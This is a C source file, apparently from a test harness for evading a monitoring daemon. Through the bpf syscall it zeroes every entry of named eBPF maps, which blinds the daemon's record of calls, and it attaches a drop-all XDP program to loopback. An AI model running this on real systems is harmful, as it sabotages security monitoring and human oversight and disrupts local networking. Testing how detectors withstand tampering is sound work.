/* Uses bpf(2) as bpftool would.
 *
 *     bpf clear MAP     sets every element of each map of that name to 0: with the daemon's table
 *                       of calls, it would see none any more
 *     bpf xdp           loads a program that drops all packets and hangs it into the loopback
 *                       interface, for as long as it runs
 */
#include "evade.h"
#include <linux/bpf.h>

static union bpf_attr attributes;

static int bpf(int command)
{
	int result = syscall(SYS_bpf, command, &attributes, sizeof attributes);
	return result;
}

static void fresh(void)
{
	memset(&attributes, 0, sizeof attributes);
}

/* The first element that differs from 0 says that the map was in use. */
static int clear(const char *name)
{
	unsigned id = 0;
	int cleared = 0;
	for (;;) {
		fresh();
		attributes.start_id = id;
		if (bpf(BPF_MAP_GET_NEXT_ID) != 0)
			return cleared;
		id = attributes.next_id;
		fresh();
		attributes.map_id = id;
		int map = bpf(BPF_MAP_GET_FD_BY_ID);
		struct bpf_map_info facts;
		memset(&facts, 0, sizeof facts);
		fresh();
		attributes.info.bpf_fd = map;
		attributes.info.info_len = sizeof facts;
		attributes.info.info = (uintptr_t)&facts;
		if (map < 0 || bpf(BPF_OBJ_GET_INFO_BY_FD) != 0)
			continue;
		if (strcmp(facts.name, name) == 0) {
			char *zeros = calloc(1, facts.value_size);
			for (unsigned key = 0; key < facts.max_entries; key++) {
				fresh();
				attributes.map_fd = map;
				attributes.key = (uintptr_t)&key;
				attributes.value = (uintptr_t)zeros;
				must(bpf(BPF_MAP_UPDATE_ELEM) == 0, "BPF_MAP_UPDATE_ELEM");
			}
			free(zeros);
			cleared++;
		}
		close(map);
	}
}

static void xdp(void)
{
	struct bpf_insn program[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 /* XDP_DROP */ },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	fresh();
	attributes.prog_type = BPF_PROG_TYPE_XDP;
	attributes.insns = (uintptr_t)program;
	attributes.insn_cnt = 2;
	attributes.license = (uintptr_t)"GPL";
	int loaded = bpf(BPF_PROG_LOAD);
	must(loaded >= 0, "BPF_PROG_LOAD");
	fresh();
	attributes.link_create.prog_fd = loaded;
	attributes.link_create.target_ifindex = 1;
	attributes.link_create.attach_type = BPF_XDP;
	attributes.link_create.flags = 2 /* XDP_FLAGS_SKB_MODE */;
	must(bpf(BPF_LINK_CREATE) >= 0, "BPF_LINK_CREATE");
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "clear") == 0) {
		int cleared = clear(argv[2]);
		printf("fact maps %d\n", cleared);
		return cleared > 0 ? 0 : NOT_HERE;
	}
	if (argc == 2 && strcmp(argv[1], "xdp") == 0) {
		xdp();
		return 0;
	}
	return 2;
}
